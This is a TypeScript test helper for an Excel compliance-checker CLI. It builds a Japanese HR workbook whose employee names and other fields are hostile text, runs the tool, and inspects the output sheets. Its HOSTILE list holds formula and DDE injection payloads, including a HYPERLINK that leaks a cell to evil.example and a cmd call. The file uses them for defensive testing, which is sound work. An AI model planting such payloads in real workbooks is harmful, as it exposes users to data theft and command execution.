/**
 * Shared by the test/reliability/output-*.test.ts suites: a user's workbook with styled, hidden and hostile
 * content, the `wlb-check` command run in-process, and readers that describe what a user sees in a sheet so
 * input and output can be compared. Workbooks are built with scripts/workbook-builders (no copy of it here);
 * the output .xlsx is only ever inspected from the outside (exceljs reads and the raw sheet XML).
 */
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import * as ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { main } from '../../src/cli/wlb-check';
import { buildWorkbook, dateCell, timeCell, type CellSpec } from '../../scripts/workbook-builders';
import { SHEET_NAMES } from '../../src/report';
import { FakeExcel } from '../support/fake-excel';
import { FY2025 } from '../rules/fixtures';

/** Text a user's cell may hold that Excel would run as a formula / DDE if written as typed. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=2+2',
] as const;

/** An employee id is user text too: one employee's id starts with `=`. */
export const HOSTILE_ID = '=E008';

export const CHECKER_SHEETS: string[] = Object.values(SHEET_NAMES);
export const AS_OF = '2026-03-31';
const MONTHS = FY2025;

/** User sheets of the workbook below, in tab order (the hidden and very hidden ones included). */
export const USER_SHEETS = ['社員名簿', '月次集計', '出勤簿', '年休', '育児休業', 'メモ', '非表示', '超非表示'];

/**
 * The user's workbook: every employee name, position, department and leave reason is hostile text; the daily
 * sheet carries hostile raw values in its time cells (they become input issues). A memo sheet has fonts, fills,
 * borders, merges, widths, a formula and a user defined name; one sheet is hidden and one very hidden.
 * With `ownSummary`, the user has a sheet of their own called WLB基準サマリー (not marked by the checker);
 * `ownSheets` adds more such user sheets (after the others).
 */
export function hostileWorkbook(options: { ownSummary?: boolean; ownSheets?: string[] } = {}): ExcelJS.Workbook {
  const ids = [...HOSTILE.map((_, i) => `E${String(i + 1).padStart(3, '0')}`), HOSTILE_ID];
  const names = [...HOSTILE, '山田 花子'];
  const roster: CellSpec[][] = [
    ['社員番号', '氏名', '性別', '雇用形態', '入社日', '退職日', '退職理由', '役職', '所属'],
  ];
  names.forEach((text, i) =>
    roster.push([
      ids[i],
      text,
      i % 2 ? '女' : '男',
      '正社員',
      dateCell('2015-04-01'),
      i === 1 ? dateCell('2025-10-31') : null,
      i === 1 ? text : null,
      text,
      text,
    ]),
  );
  const monthly: CellSpec[][] = [['社員番号', '氏名', '年月', '時間外労働', '休日労働']];
  // 50 h a month for everybody: over 45 h, so every employee has findings and a row on the 36協定 sheet.
  for (const [i, id] of ids.entries()) for (const m of MONTHS) monthly.push([id, names[i], m, 50, 0]);
  const daily: CellSpec[][] = [['社員番号', '日付', '出勤', '退勤', '休憩']];
  HOSTILE.forEach((text, i) => daily.push([ids[i], dateCell(`2026-03-0${i + 2}`), text, timeCell('18:00'), 60]));
  daily.push([ids[0], dateCell('2026-03-10'), timeCell('9:00'), timeCell('18:00'), 60]);
  const leave: CellSpec[][] = [['社員番号', '氏名', '付与日', '付与日数', '取得日', '取得日数']];
  ids.forEach((id, i) => leave.push([id, names[i], dateCell('2024-10-01'), 10, null, null]));
  ids.forEach((id, i) => leave.push([id, names[i], null, null, dateCell('2025-01-06'), 1]));
  const family: CellSpec[][] = [['社員番号', '氏名', '種別', '開始日', '終了日', '子の生年月日', '備考']];
  family.push([ids[0], HOSTILE[0], '出産', dateCell('2025-06-01'), null, dateCell('2025-06-01'), HOSTILE[4]]);
  family.push([
    ids[0],
    HOSTILE[0],
    '育児休業',
    dateCell('2025-06-01'),
    dateCell('2025-09-30'),
    dateCell('2025-06-01'),
    HOSTILE[5],
  ]);

  const wb = buildWorkbook([
    { name: '社員名簿', rows: roster, columnWidths: [10, 30, 6] },
    { name: '月次集計', rows: monthly },
    { name: '出勤簿', rows: daily },
    { name: '年休', rows: leave },
    { name: '育児休業', rows: family },
    {
      name: 'メモ',
      rows: [
        ['社内メモ（書式つき）', null, null],
        ['件数', 3, { formula: 'B2*2', result: 6 }],
        ['比率', { value: 0.25, numFmt: '0.0%' }, dateCell('2026-04-01', 'yyyy"年"m"月"d"日"')],
      ],
      merges: ['A1:C1'],
      columnWidths: [18, 9.5, 22],
    },
    { name: '非表示', rows: [['隠した表'], [1, 2, 3]], state: 'hidden' },
    { name: '超非表示', rows: [['とても隠した表']], state: 'veryHidden' },
    ...(options.ownSummary
      ? [{ name: SHEET_NAMES.summary, rows: [['これは利用者自身のサマリーです'], [42, '=1+1']] as CellSpec[][] }]
      : []),
    ...(options.ownSheets ?? []).map((name) => ({
      name,
      rows: [[`利用者のシート「${name}」`], ['メモ', 1]] as CellSpec[][],
    })),
  ]);
  const memo = wb.getWorksheet('メモ')!;
  memo.getCell('A1').font = { name: 'Meiryo', size: 14, bold: true, color: { argb: 'FFC00000' } };
  memo.getCell('A1').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFF2CC' } };
  memo.getCell('A2').border = { bottom: { style: 'thin', color: { argb: 'FF000000' } } };
  memo.getCell('B3').alignment = { horizontal: 'right' };
  memo.getRow(1).height = 24;
  memo.views = [{ state: 'frozen', xSplit: 1, ySplit: 1 }];
  memo.properties.tabColor = { argb: 'FF00B050' };
  memo.getCell('B2').dataValidation = { type: 'whole', operator: 'between', allowBlank: true, formulae: [0, 10] };
  memo.getCell('A3').note = '利用者のメモ';
  memo.getCell('A4').value = { text: '社内サイト', hyperlink: 'https://intranet.example/wlb' };
  memo.addConditionalFormatting({
    ref: 'B2:B3',
    rules: [
      {
        type: 'cellIs',
        operator: 'greaterThan',
        formulae: ['5'],
        priority: 1,
        style: { fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFFC7CE' } } },
      },
    ],
  });
  memo.autoFilter = 'A2:C3';
  wb.definedNames.add("'メモ'!$B$2:$B$3", 'UserRange');
  wb.definedNames.add("'社員名簿'!$A$1:$I$8", 'Roster');
  return wb;
}

export async function saveWorkbook(wb: ExcelJS.Workbook, file: string): Promise<void> {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, Buffer.from(await wb.xlsx.writeBuffer()));
}

export async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

export function sha256(file: string): string {
  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

/** `wlb-check` run in-process (its public entry point): exit status and what it printed. */
export async function runCli(args: string[]): Promise<{ status: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const status = await main(args, {
    stdout: (t) => (stdout += t),
    stderr: (t) => (stderr += t),
    now: () => new Date('2026-04-01T09:00:00Z'),
  });
  return { status, stdout, stderr };
}

/** Defined names of a workbook other than the checker's own markers, as comparable text. */
export function userDefinedNames(wb: ExcelJS.Workbook): string[] {
  return wb.definedNames.model
    .filter((d) => !/^WLBChecker/i.test(d.name))
    .map((d) => `${d.name}=${[...d.ranges].sort().join(',')}`)
    .sort();
}

/** Everything a user sees of one sheet, read through exceljs: position, visibility, cells with looks, merges, widths. */
export function describeSheet(wb: ExcelJS.Workbook, name: string): unknown {
  const ws = wb.getWorksheet(name);
  if (!ws) return undefined;
  const cells: unknown[] = [];
  ws.eachRow({ includeEmpty: true }, (row, r) => {
    row.eachCell({ includeEmpty: false }, (cell, c) => {
      cells.push({
        r,
        c,
        type: cell.type,
        value: cell.value,
        numFmt: cell.numFmt ?? null,
        font: cell.font ?? null,
        fill: cell.fill ?? null,
        border: cell.border ?? null,
        alignment: cell.alignment ?? null,
        note: cell.note ?? null,
      });
    });
  });
  const columns: unknown[] = [];
  for (let c = 1; c <= Math.max(ws.columnCount, 1); c++) columns.push(ws.getColumn(c).width ?? null);
  const rows: unknown[] = [];
  ws.eachRow({ includeEmpty: true }, (row, r) => rows.push([r, row.height ?? null]));
  const model = ws.model as unknown as { conditionalFormattings?: unknown; autoFilter?: unknown };
  return {
    name: ws.name,
    position: wb.worksheets.indexOf(ws),
    state: ws.state ?? 'visible',
    views: (ws.views ?? []).map((v) => ({ ...v, tabSelected: undefined, activeCell: undefined })),
    tabColor: ws.properties.tabColor ?? null,
    dataValidations: (ws as unknown as { dataValidations: { model: unknown } }).dataValidations.model,
    conditionalFormattings: model.conditionalFormattings ?? [],
    autoFilter: model.autoFilter ?? null,
    cells,
    merges: mergedRanges(ws),
    columns,
    rows,
  };
}

/** Merged ranges of a sheet (`A1:C1`), sorted. */
function mergedRanges(ws: ExcelJS.Worksheet): string[] {
  return Object.values((ws as unknown as { _merges: Record<string, { range: string }> })._merges)
    .map((m) => m.range)
    .sort();
}

/** Sheet names in tab order. */
export function sheetOrder(wb: ExcelJS.Workbook): string[] {
  return wb.worksheets.map((ws) => ws.name);
}

/** The raw XML of every worksheet of an .xlsx, by sheet name (through workbook.xml and its relationships). */
export async function sheetXml(file: string): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const workbook = await zip.file('xl/workbook.xml')!.async('string');
  const rels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
  const targets = new Map<string, string>();
  for (const m of rels.matchAll(/<Relationship\b[^>]*>/g)) {
    const id = /\bId="([^"]+)"/.exec(m[0])?.[1];
    const target = /\bTarget="([^"]+)"/.exec(m[0])?.[1];
    if (id && target) targets.set(id, target.replace(/^\/?(xl\/)?/, 'xl/'));
  }
  const out = new Map<string, string>();
  for (const m of workbook.matchAll(/<sheet\b[^>]*>/g)) {
    const name = unescapeXml(/\bname="([^"]*)"/.exec(m[0])?.[1] ?? '');
    const rid = /\br:id="([^"]+)"/.exec(m[0])?.[1] ?? '';
    const target = targets.get(rid);
    if (target) out.set(name, await zip.file(target)!.async('string'));
  }
  return out;
}

function unescapeXml(s: string): string {
  return s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
}

/** Cell references of a sheet's XML that hold a formula (`<f>` element). */
export function formulaCells(xml: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const ref = /\br="([A-Z]+\d+)"/.exec(m[1])?.[1];
    const f = m[2] ? /<f\b[^>]*>([\s\S]*?)<\/f>|<f\b[^>]*\/>/.exec(m[2]) : null;
    if (ref && f) out.set(ref, unescapeXml(f[1] ?? ''));
  }
  return out;
}

/** Every cell of a sheet whose text is one of `texts` (leading tab/CR/LF ignored in the comparison). */
export function cellsWithText(
  ws: ExcelJS.Worksheet,
  texts: readonly string[],
): { address: string; text: string; cell: ExcelJS.Cell }[] {
  const out: { address: string; text: string; cell: ExcelJS.Cell }[] = [];
  ws.eachRow((row) =>
    row.eachCell((cell) => {
      const v = cell.value;
      const text =
        typeof v === 'string'
          ? v
          : v && typeof v === 'object' && 'richText' in v
            ? v.richText.map((t) => t.text).join('')
            : v && typeof v === 'object' && 'formula' in v
              ? String(v.formula)
              : null;
      if (text === null) return;
      const bare = (s: string) => s.replace(/^[\t\r\n]+/, '');
      const hit = texts.find((t) => text === t || bare(text) === bare(t));
      if (hit !== undefined) out.push({ address: cell.address, text: hit, cell });
    }),
  );
  return out;
}

/**
 * The same workbook inside the simulated Excel: sheets (with visibility), values with number formats, formulas
 * with their cached results, merges, column widths, bold/fill/font colour, and the user's defined names.
 */
export function fakeExcelFrom(wb: ExcelJS.Workbook): FakeExcel {
  const fake = new FakeExcel(wb.worksheets.map((ws) => ws.name));
  const visibility = { visible: 'Visible', hidden: 'Hidden', veryHidden: 'VeryHidden' } as const;
  for (const ws of wb.worksheets) {
    const sheet = fake.sheet(ws.name);
    sheet.visibility = visibility[(ws.state ?? 'visible') as keyof typeof visibility];
    sheet.merges = mergedRanges(ws);
    for (let c = 1; c <= ws.columnCount; c++) {
      const w = ws.getColumn(c).width;
      if (w) sheet.columnWidths.set(c - 1, (w * 7 + 5) * 0.75);
    }
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (v && typeof v === 'object' && 'formula' in v)
          fake.setFormula(ws.name, cell.address, `=${v.formula}`, (v.result as number | string) ?? 0);
        else if (typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean')
          fake.setCells(ws.name, cell.address, [[v]], [[cell.numFmt || 'General']]);
        else return;
        const target = fake.cell(ws.name, cell.address)!;
        if (cell.font?.bold) target.bold = true;
        if (cell.font?.color?.argb) target.fontColor = `#${cell.font.color.argb.slice(2)}`;
        const fill = cell.fill as { fgColor?: { argb?: string } } | undefined;
        if (fill?.fgColor?.argb) target.fill = `#${fill.fgColor.argb.slice(2)}`;
      }),
    );
  }
  for (const { name, ranges } of wb.definedNames.model) fake.names.set(name, `=${ranges[0]}`);
  return fake;
}
